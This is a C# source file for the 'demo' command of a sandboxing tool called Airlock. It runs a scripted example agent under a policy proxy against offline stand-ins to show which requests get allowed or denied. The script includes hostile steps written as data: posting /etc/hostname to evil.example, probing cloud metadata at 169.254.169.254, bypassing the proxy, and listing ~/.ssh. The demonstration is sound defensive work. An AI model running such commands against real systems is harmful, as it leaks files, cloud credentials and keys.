using System.CommandLine;
using System.Net;
using Airlock.Cli.Run;
using Airlock.Policy.Loading;
using Airlock.Sandboxes.Local;

namespace Airlock.Cli.Demo;

/// <summary>
/// <c>airlock demo</c>: an example agent script runs in a real local sandbox under the embedded example policy,
/// through the real proxy, against local stand-in origins, so it works offline and shows the real thing:
/// allowed, denied, L7-denied and credential-injected requests, and what cannot get out at all.
/// </summary>
internal static class DemoCommand
{
    private const string EmbeddedPolicy = "Airlock.Cli.demo.yaml";

    /// <summary>The names the stand-in origins answer for.</summary>
    private static readonly string[] Names = ["api.github.com", "raw.githubusercontent.com", "gist.github.com", "api.anthropic.com", "registry.npmjs.org", "evil.example"];

    /// <summary>The example agent: what a coding agent might try, each step labelled.</summary>
    private const string AgentScript = """
        #!/bin/sh
        step() { printf '\n\033[1m%s\033[0m\n' "$1"; }
        call() { curl -sS --max-time 10 "$@"; echo; }
        step "1. read issues (allowed: read-only GitHub rule)"
        call https://api.github.com/repos/dotnet/runtime/issues
        step "2. open an issue (denied: the rule allows GET and HEAD only)"
        call -X POST --data '{"title":"x"}' https://api.github.com/repos/dotnet/runtime/issues
        step "3. call the model without a key (allowed: the proxy injects x-api-key)"
        call -X POST --data '{"model":"m"}' https://api.anthropic.com/v1/messages
        step "4. post a gist (denied by a deny rule)"
        call https://gist.github.com/
        step "5. exfiltrate to an unknown host (denied by default)"
        call -X POST --data @/etc/hostname https://evil.example/upload
        step "6. probe cloud metadata (denied)"
        call http://169.254.169.254/latest/meta-data/
        step "7. ignore the proxy and connect directly (no network but loopback)"
        curl -sS --max-time 5 --noproxy '*' https://1.1.1.1/ 2>&1 | head -1
        step "8. read the user's SSH keys (hidden)"
        ls -A ~/.ssh 2>&1 | head -3; echo "(nothing there)"
        """;

    public static Command Create(TextWriter stdout, TextWriter stderr)
    {
        var command = new Command("demo", "Run an example agent in a local sandbox under an example policy, offline, and show what the proxy decided.");
        command.SetAction(async (_, cancellationToken) =>
        {
            var loaded = LoadEmbedded();
            if (loaded.Policy is not { } policy)
            {
                foreach (var diagnostic in loaded.Diagnostics)
                {
                    stderr.WriteLine(diagnostic.ToString());
                }

                return ExitCodes.InvalidPolicy;
            }

            await using var origin = await DemoOrigin.StartAsync().ConfigureAwait(false);
            var workdir = Directory.CreateTempSubdirectory("airlock-demo-");
            try
            {
                await File.WriteAllTextAsync(Path.Combine(workdir.FullName, "agent.sh"), AgentScript, cancellationToken).ConfigureAwait(false);
                stdout.WriteLine("airlock demo: an example agent in a local sandbox under examples/policies/demo.yaml (embedded).");
                stdout.WriteLine($"Stand-in origins for {string.Join(", ", Names)} run on 127.0.0.1:{origin.Port}; nothing leaves this machine.");
                stdout.Flush();
                var result = await LocalRun.RunAsync(
                    new LocalRunOptions
                    {
                        Policy = policy,
                        Command = ["sh", "agent.sh"],
                        AirlockCommand = RunCommand.SelfCommand(),
                        WorkDirectory = workdir.FullName,
                        Secrets = name => name == "ANTHROPIC_API_KEY" ? "sk-demo-0000-not-a-real-key" : null,
                        Timeout = TimeSpan.FromMinutes(2),
                        EventsPath = Path.Combine(workdir.FullName + "-events.ndjson"),
                        Resolve = Names.ToDictionary(n => n, _ => new[] { IPAddress.Loopback }, StringComparer.Ordinal),
                        ResolvePorts = Names.ToDictionary(n => n, _ => origin.Port, StringComparer.Ordinal),
                        UpstreamRoots = [origin.CertificateAuthority.Certificate],
                        Report = stderr,
                    },
                    cancellationToken).ConfigureAwait(false);
                return result.ExitCode;
            }
            finally
            {
                workdir.Delete(recursive: true);
            }
        });
        return command;
    }

    private static PolicyLoadResult LoadEmbedded()
    {
        using var stream = typeof(DemoCommand).Assembly.GetManifestResourceStream(EmbeddedPolicy)
            ?? throw new InvalidOperationException($"embedded resource {EmbeddedPolicy} is missing");
        using var reader = new StreamReader(stream);
        return PolicyLoader.Parse(reader.ReadToEnd(), "examples/policies/demo.yaml (embedded)");
    }
}
